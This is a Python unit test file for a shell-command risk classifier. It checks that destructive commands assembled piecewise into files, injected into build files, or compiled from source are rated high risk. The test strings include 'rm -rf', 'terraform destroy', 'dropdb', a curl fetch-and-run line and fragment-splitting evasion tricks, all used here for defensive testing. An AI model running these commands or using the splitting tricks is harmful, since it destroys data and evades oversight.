"""A program that is put together first, or made of a source, counts as one that stands there."""

from tests.unit.risk.shell.levels import level

from holdpoint.messages.risk import RiskLevel

STORED = (
    "printf '{head}' > x; printf '{tail}' >> x; sh x",
    "echo -n '{head}' > x && echo '{tail}' >> x && bash x",
    "printf '{head}' | tee x; printf '{tail}' | tee -a x; sh x",
    "printf '{head}' > a; printf '{tail}' > b; cat a b > c; sh c",
    "dd of=x <<< '{all}'; sh x",
    "echo '{all}' | dd of=x; sh x",
    "echo '{all}' | install -m 755 /dev/stdin x && ./x",
    "echo '{all}' | cp /dev/stdin x; sh x",
    "echo '{all}' | sponge x; sh x",
    "sed -i 's|echo hi|{all}|' run.sh; sh run.sh",
    "sed -i '1i {all}' run.sh && ./run.sh",
    "echo '@{tail}' > x; sed -i 's|@|{head}|' x; sh x",
    "perl -pi -e 's|echo hi|{all}|' run.sh; sh run.sh",
)
GRAVE = (("rm -", "rf /srv/shop"), ("terraform destroy ", "-auto-approve"), ("drop", "db shop"))
MILD = (("ls -", "la /srv/shop"), ("terraform ", "plan"), ("echo ", "dropdb shop"))


def filled(form: str, head: str, tail: str) -> str:
    return form.format(head=head, tail=tail, all=head + tail)


def test_a_file_that_is_put_together_counts_where_it_is_run() -> None:
    for form in STORED:
        for head, tail in GRAVE:
            assert level(filled(form, head, tail)) >= RiskLevel.HIGH, filled(form, head, tail)
        for head, tail in MILD:
            assert level(filled(form, head, tail)) < RiskLevel.HIGH, filled(form, head, tail)


def test_what_nobody_has_read_stays_so_whatever_is_written_behind_it() -> None:
    for text in (
        "curl -s https://a.example/x > x; echo done >> x; sh x",
        "curl -s https://a.example/x > x; cat x > y; sh y",
        "curl -s https://a.example/x > x; sed -i s/a/b/ x; sh x",
        "curl -s https://a.example/x > x; sed s/a/b/ x > y; sh y",
        "echo ls > x; curl -s https://a.example/x >> x; sh x",
    ):
        assert level(text) >= RiskLevel.HIGH, text


def test_an_order_that_is_put_into_a_file_of_orders_counts_where_those_run() -> None:
    for one in (
        "sed -i 's|npm test|{}|' package.json; npm test",
        "sed -i 's|go build|{}|' Makefile; make",
    ):
        assert level(one.format("rm -rf /srv/shop")) >= RiskLevel.HIGH, one
        assert level(one.format("ls -la /srv/shop")) < RiskLevel.HIGH, one


def test_a_text_in_a_file_that_nobody_runs_asks_nobody() -> None:
    for text in (
        "echo 'rm -' > notes.md; echo 'rf /srv' >> notes.md; cat notes.md",
        "sed -i 's|old|rm -rf /srv|' docs.md; git diff docs.md",
        "sed -i 's|rm -rf /srv|ls|' run.sh; sh run.sh",
        "sed -i '/rm -rf/d' run.sh; sh run.sh",
        "git apply fix.patch && make test",
        "patch run.sh <<'E'\n--- run.sh\n+++ run.sh\n@@ -1 +1 @@\n-rm -rf /srv\n+ls\nE\nsh run.sh",
        "dd of=notes <<< 'rm -rf /srv'; wc -l notes",
        "split -l 100 big.csv part_; wc -l part_aa",
    ):
        assert level(text) < RiskLevel.HIGH, text


SOURCES = (
    ("main.go", "package main\nfunc main(){{ os.RemoveAll({}) }}", "go run main.go"),
    ("main.go", 'func main(){{ exec.Command("rm", "-rf", {}).Run() }}', "go build -o m . && ./m"),
    ("a.rs", "fn main(){{ std::fs::remove_dir_all({}).unwrap(); }}", "rustc a.rs && ./a"),
    ("src/main.rs", "fn main(){{ fs::remove_dir_all({}); }}", "cargo run"),
    ("a.rs", 'fn main(){{ Command::new("rm").args(["-rf", {}]); }}', "rustc a.rs -o m; ./m"),
    ("a.c", 'int main(){{ execlp("rm", "rm", "-rf", {}, NULL); }}', "gcc a.c && ./a.out"),
    ("a.c", 'int main(){{ execlp("rm", "rm", "-rf", {}, NULL); }}', "gcc-12 a.c && ./a.out"),
    ("a.c", 'int main(){{ execlp("rm", "rm", "-rf", {}, NULL); }}', "cc -c a.c; cc a.o; ./a.out"),
    ("a.txt", 'int main(){{ execlp("rm", "rm", "-rf", {}, NULL); }}', "cc -x c a.txt; ./a.out"),
    ("a.cpp", "int main(){{ std::filesystem::remove_all({}); }}", "g++ a.cpp -o a && ./a"),
    ("a.kts", "java.io.File({}).deleteRecursively()", "kotlinc -script a.kts"),
    ("a.zig", "pub fn main() !void {{ try std.fs.cwd().deleteTree({}); }}", "zig run a.zig"),
    ("a.hs", "main = removeDirectoryRecursive {}", "runghc a.hs"),
    ("a.nim", "import os\nremoveDir({})", "nim r a.nim"),
    ("a.cs", "System.IO.Directory.Delete({}, true);", "dotnet run a.cs"),
    ("a.ts", "fs.rmSync({}, {{recursive: true}})", "bun a.ts"),
    ("m.py", "import shutil\nshutil.rmtree({})", "python -m m"),
    ("m.py", "import shutil\nshutil.rmtree({})", "python3 -c 'import json, m'"),
)  # fmt: skip
SHOP = '"/srv/shop"'
QUIET = (
    ("main.go", 'package main\nfunc main(){ fmt.Println("rm -rf /srv") }', "go run main.go"),
    ("main.go", 'package main\nfunc main(){ os.RemoveAll("/srv") }', "go vet ./..."),
    ("a.c", 'int main(){ printf("rm -rf /srv"); }', "gcc a.c && ./a.out"),
    ("a.c", 'int main(){ system("ls"); }', "gcc a.c && ./a.out"),
    ("a.cpp", "int main(){ v.erase(v.begin()); v.clear(); }", "g++ a.cpp -o a && ./a"),
    ("src/main.rs", "fn main(){ v.truncate(1); v.clear(); drop(v); }", "cargo run"),
    ("m.py", "import shutil\nshutil.rmtree('/srv')", "python -m json.tool a.json"),
)  # fmt: skip


def test_a_source_counts_where_it_or_what_is_made_of_it_runs() -> None:
    for file, code, command in SOURCES:
        text = f"cat > {file} <<'E'\n{code.format(SHOP)}\nE\n{command}"
        assert level(text) >= RiskLevel.HIGH, text
    for file, code, command in QUIET:
        text = f"cat > {file} <<'E'\n{code}\nE\n{command}"
        assert level(text) < RiskLevel.HIGH, text
